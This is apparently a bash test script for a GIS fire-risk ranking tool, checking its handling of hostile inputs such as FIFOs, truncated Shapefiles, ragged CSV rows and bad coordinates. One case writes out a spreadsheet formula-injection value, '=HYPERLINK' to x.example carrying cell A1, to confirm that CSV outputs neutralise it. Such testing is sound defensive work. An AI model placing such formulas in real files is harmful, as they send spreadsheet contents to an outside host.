#!/usr/bin/env bash
# Bad-input catalogue, hostile inputs (issue 16): paths that are not files
# (a FIFO must be refused, never block the run under its lock), Shapefiles
# cut or corrupted by a failed copy (exit 2, as a cut .dbf), CSV rows with
# more or fewer cells than the header (counted rejects ragged_row, never
# used), and text that a spreadsheet would run as a formula (neutralised
# in every CSV output, kept as read in the GIS outputs).
source "$(dirname "$0")/../common.bash"
source "$(dirname "$0")/lib_bad.bash"
cd "$WORK"
baseline

shp_parcels

# Every run here must end on its own: a hang (exit 124) fails the case
# instead of blocking the suite.
firerisk_run() { # CONFIG [extra args]
  local cfg=$1; shift
  set +e
  timeout 60 "$FIRERISK" run --config "$cfg" --out "$OUT" "$@" 2>"$WORK/stderr" >"$WORK/stdout"
  RC=$?
  set -e
  sanitizer_clean
}

case_name "the input is a FIFO: refused before opening, exit 2, lock released"
mkfifo fifo.csv
parcels_yaml fifo.csv > c.yaml
set +e
timeout 60 "$FIRERISK" run --config c.yaml --out "$OUT" 2>"$WORK/stderr" >/dev/null
RC=$?
set -e
[ "$RC" = 2 ] || { cat "$WORK/stderr" >&2; fail "$CASE: exit $RC, expected 2 (124 = it blocked)"; }
grep -qF "fifo.csv: is a FIFO (named pipe), not a regular file or directory" "$WORK/stderr" || fail "$CASE: message"
[ "$(outputs_sha)" = "$BASE_SHA" ] || fail "$CASE: outputs changed"
run_ok "$WORK/base.yaml" # the next night is not locked out

case_name "a Shapefile's .dbf is a FIFO"
copy_shp fifodbf
rm fifodbf/parcels.dbf
mkfifo fifodbf/parcels.dbf
parcels_yaml fifodbf/parcels.shp "" > c.yaml
run_fails 2 "fifodbf/parcels.dbf: is a FIFO (named pipe)" c.yaml

case_name "the configuration is a FIFO"
mkfifo fifo.yaml
set +e
timeout 60 "$FIRERISK" run --config fifo.yaml --out "$OUT" 2>"$WORK/stderr" >/dev/null
RC=$?
set -e
[ "$RC" = 1 ] || fail "$CASE: exit $RC, expected 1"
grep -qF "fifo.yaml: is not a regular file" "$WORK/stderr" || fail "$CASE: message"

case_name "a character device as input"
parcels_yaml /dev/zero > c.yaml
run_fails 2 "/dev/zero: is a character device, not a regular file or directory" c.yaml

case_name ".shx truncated"
copy_shp cutshx
truncate -s 140 cutshx/parcels.shx
parcels_yaml cutshx/parcels.shp "" > c.yaml
run_fails 2 "cutshx/parcels.shx: the Shapefile's index (.shx) file is truncated" c.yaml

case_name ".shp cut at half, header rewritten to match (the .shx still says where records end)"
copy_shp half
size=$(stat -c %s half/parcels.shp)
truncate -s $((size / 2)) half/parcels.shp
python3 - half/parcels.shp <<'PY'
import os, struct, sys
p = sys.argv[1]
with open(p, "r+b") as f:
    f.seek(24); f.write(struct.pack(">i", os.path.getsize(p) // 2))
PY
parcels_yaml half/parcels.shp "" > c.yaml
run_fails 2 "half/parcels.shp: the Shapefile's geometry (.shp) file is truncated or corrupt: record" c.yaml

case_name "CSV row with one extra unquoted comma: rejected ragged_row, never used"
{ head -1 parcels.csv; echo 'P99,1 ELM ST, smoke alarm missing,1950,"POLYGON((741000 3735200,741030 3735200,741030 3735230,741000 3735230,741000 3735200))"'; tail -n +2 parcels.csv; } > ragged.csv
parcels_yaml ragged.csv > c.yaml
run_ok c.yaml
expect_reject parcels ragged_row "line 2 has 5 cells where the header has 4"
accounting_balanced
[ "$(summary_used parcels)" = 16 ] || fail "$CASE: the ragged row must not be used"
! grep -q '^P99,' "$OUT/ranked_parcels.csv" 2>/dev/null || fail "$CASE: the ragged row was ranked"

case_name "CSV row with a cell missing"
{ head -1 parcels.csv; tail -n +2 parcels.csv; echo 'P98,1 ELM ST'; } > short.csv
parcels_yaml short.csv > c.yaml
run_ok c.yaml
expect_reject parcels ragged_row "line 18 has 2 cells where the header has 4"
accounting_balanced

case_name "a formula in an address: neutralised in the CSVs, kept in the GeoJSON"
{ head -1 parcels.csv; sed -n 2p parcels.csv | sed 's/^P1,[^,]*,/P1,"=HYPERLINK(""http:\/\/x.example\/?""\&A1,""click"")",/'; tail -n +3 parcels.csv; } > formula.csv
parcels_yaml formula.csv > c.yaml
run_ok c.yaml
grep -qF "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"" "$OUT/targets.csv" \
  || { grep P1 "$OUT/targets.csv" >&2; fail "$CASE: targets.csv does not neutralise the formula"; }
! grep -q '^[^"]*,=HYPERLINK\|,"=HYPERLINK' "$OUT"/*.csv || fail "$CASE: a CSV still starts a cell with ="
grep -qF '"=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"' "$OUT/ranked_parcels.geojson" \
  || fail "$CASE: the GeoJSON must keep the text as read"

# ---- reasons that tell the truth -------------------------------------------
# Incidents in lon/lat (EPSG:4326, so that a missing coordinate goes through
# PROJ); the parcels are UTM 16N squares around (741000, 3735000).
lonlat=$(echo "741015 3735015" | gdaltransform -s_srs EPSG:32616 -t_srs EPSG:4326 | awk '{printf "%.7f,%.7f", $1, $2}')
cat > inc.csv <<CSV
id,when,lon,lat,pin,addr
1,2024-06-01,$lonlat,P1,1 X ST
2,2024-06-01,,,ZZ9,
3,2024-06-01,,,,
4,2024-06-01,,,,12 NOWHERE AVE
5,2024-06-01,${lonlat%,*},,,
6,2024-06-01,0x21,33.7,,
CSV
inc_yaml() { # JOIN
  parcels_yaml parcels.csv
  cat <<YAML
  incidents:
    source: inc.csv
    geometry: {x: lon, y: lat}
    crs: EPSG:4326
    fields: {date: when, parcel_id: pin, address: addr}
    join: $1
YAML
}

case_name "records without coordinates never reach the spatial steps; the id and address reasons survive"
inc_yaml "[parcel_id, address, contains, nearest]" > c.yaml
run_ok c.yaml
expect_reject incidents unknown_parcel_id "its parcel id 'ZZ9' is not among the parcels"
grep -q "^incidents,2,.*beyond_tolerance" "$OUT/rejects.csv" && fail "$CASE: a record without a point was rejected beyond_tolerance"
awk -F, '$1 == "incidents" && $2 == 3 && $4 == "no_parcel_id_or_point" { ok = 1 } END { exit !ok }' "$OUT/rejects.csv" \
  || { cat "$OUT/rejects.csv" >&2; fail "$CASE: incident 3 (nothing) must be no_parcel_id_or_point"; }
awk -F, '$1 == "incidents" && $2 == 4 && $4 == "unknown_street" { ok = 1 } END { exit !ok }' "$OUT/rejects.csv" \
  || { cat "$OUT/rejects.csv" >&2; fail "$CASE: incident 4 (address, no point) must keep the address reason"; }
accounting_balanced

case_name "an empty lat is blamed on lat; 0x21 is not a number"
awk -F, '$1 == "incidents" && $2 == 5 && $3 == "lat" && $4 == "unparsable_coordinates" { ok = 1 } END { exit !ok }' "$OUT/rejects.csv" \
  || { cat "$OUT/rejects.csv" >&2; fail "$CASE: incident 5's empty lat must be blamed on lat"; }
expect_reject incidents unparsable_coordinates "the y (latitude) coordinate is empty"
awk -F, '$1 == "incidents" && $2 == 6 && $3 == "lon" && $4 == "unparsable_coordinates" { ok = 1 } END { exit !ok }' "$OUT/rejects.csv" \
  || { cat "$OUT/rejects.csv" >&2; fail "$CASE: 0x21 must be unparsable"; }

case_name "an unknown id with a point too far names the id"
cat > far.csv <<CSV
id,when,lon,lat,pin,addr
1,2024-06-01,-84.0,33.0,ZZ7,
CSV
sed 's/source: inc.csv/source: far.csv/' c.yaml > c2.yaml
cat >> c2.yaml <<'YAML'
join: {study_area_km: 5000}
YAML
run_ok c2.yaml
expect_reject incidents beyond_tolerance "its parcel id 'ZZ7' is not among the parcels either"

case_name "a whole layer of swapped lon/lat is called that"
swap_parcels() {
  echo "pin,addr,yr,wkt"
  echo 'S1,1 A ST,1950,"POLYGON((37.70 -122.40,37.70 -122.39,37.71 -122.39,37.71 -122.40,37.70 -122.40))"'
  echo 'S2,2 A ST,1950,"POLYGON((37.72 -122.40,37.72 -122.39,37.73 -122.39,37.73 -122.40,37.72 -122.40))"'
}
swap_parcels > swapped.csv
parcels_yaml swapped.csv "    geometry: {wkt: wkt}
    crs: EPSG:4326" | sed '/^working_crs/d' > c.yaml
run_fails 2 "the longitude and latitude are stored swapped" c.yaml
grep -qF "swapped.csv, layer 'swapped'" "$WORK/stderr" || fail "$CASE: the message must name file and layer"
parcels_yaml swapped.csv "    geometry: {wkt: wkt}
    crs: EPSG:4326" > c.yaml
run_fails 2 "the longitude and latitude are stored swapped" c.yaml

# ---- ids typed differently ---------------------------------------------------
case_name "integer parcel ids vs zero-padded text ids: matched by the normalised fallback, counted apart"
good_parcels p.csv
sed -E 's/^P([0-9]+),/\1,/' p.csv > intpar.csv    # ids 1..16
ogr2ogr -f GPKG intpar.gpkg intpar.csv -oo AUTODETECT_TYPE=YES -oo GEOM_POSSIBLE_NAMES=wkt -oo KEEP_GEOM_COLUMNS=NO \
  -a_srs EPSG:32616 -nln parcels
ogrinfo -ro -so intpar.gpkg parcels | grep "pin: Integer" >/dev/null || fail "$CASE: the GeoPackage's pin must be an integer"
cat > insp.csv <<'CSV'
id,when,pin,result
1,2024-06-01,000000000001,FAIL
2,2024-06-01,0002,PASS
3,2024-06-01,3.0,FAIL
4,2024-06-01,4,PASS
CSV
cat > c.yaml <<'YAML'
as_of: 2025-01-01
working_crs: EPSG:32616
checks: {enabled: false}   # old data on purpose
layers:
  parcels:
    source: intpar.gpkg
    fields: {parcel_id: pin, address: addr, year_built: yr}
  inspections:
    source: insp.csv
    fields: {date: when, parcel_id: pin, result: result}
YAML
run_ok c.yaml
accounting_balanced
python3 - "$OUT/run_manifest.json" <<'PY' || fail "$CASE: expected 1 by id and 3 by the normalised id"
import json, sys
j = json.load(open(sys.argv[1]))["counts"]["inspections"]["join"]
sys.exit(not (j["by_id"] == 1 and j["by_id_normalised"] == 3 and j["unmatched"] == 0))
PY
[ "$(grep -c '^inspections,.*,parcel_id_normalised,' "$OUT/matches.csv")" = 3 ] || { cat "$OUT/matches.csv" >&2; fail "$CASE: matches.csv"; }
grep -q "inspections matched by a normalised parcel id (leading zeros, case, 13 = 13.0): 3" "$OUT/run_summary.txt" \
  || fail "$CASE: the summary must count the fallback"

case_name "a normalised id several parcels share is refused"
{ head -1 p.csv; tail -n +2 p.csv | sed -E 's/^P1,/7,/; s/^P2,/007,/'; } > amb.csv
printf 'id,when,pin,result\n1,2024-06-01,0007,FAIL\n2,2024-06-01,007,FAIL\n' > insp2.csv
parcels_yaml amb.csv > c.yaml
cat >> c.yaml <<'YAML'
  inspections:
    source: insp2.csv
    fields: {date: when, parcel_id: pin, result: result}
YAML
run_ok c.yaml
expect_reject inspections ambiguous_parcel_id "its parcel id '0007' is no parcel's as written"
grep -q '^inspections,2,parcel_id,' "$OUT/matches.csv" || fail "$CASE: the exact id 007 must still match"
accounting_balanced

case_name "every error names file and layer: a centre on no UTM zone"
printf 'pin,addr,yr,wkt\nA,1 X,1950,"POLYGON((10 85,10.01 85,10.01 85.01,10 85.01,10 85))"\n' > polar.csv
parcels_yaml polar.csv "    geometry: {wkt: wkt}
    crs: EPSG:4326" | sed '/^working_crs/d' > c.yaml
run_fails 2 "polar.csv, layer 'polar': the centre of layer parcels (10.005, 85.005) is not on a UTM zone" c.yaml

case_name "every error names file and layer: no coordinate transformation between the CRSs"
printf 'pin,addr,yr,wkt\nA,1 X,1950,"POLYGON((10 10,20 10,20 20,10 20,10 10))"\n' > eng.csv
parcels_yaml eng.csv "    geometry: {wkt: wkt}
    crs: 'LOCAL_CS[\"site grid\",UNIT[\"metre\",1]]'" > c.yaml
run_fails 2 "eng.csv, layer 'eng' (parcels): no coordinate transformation between the CRSs" c.yaml
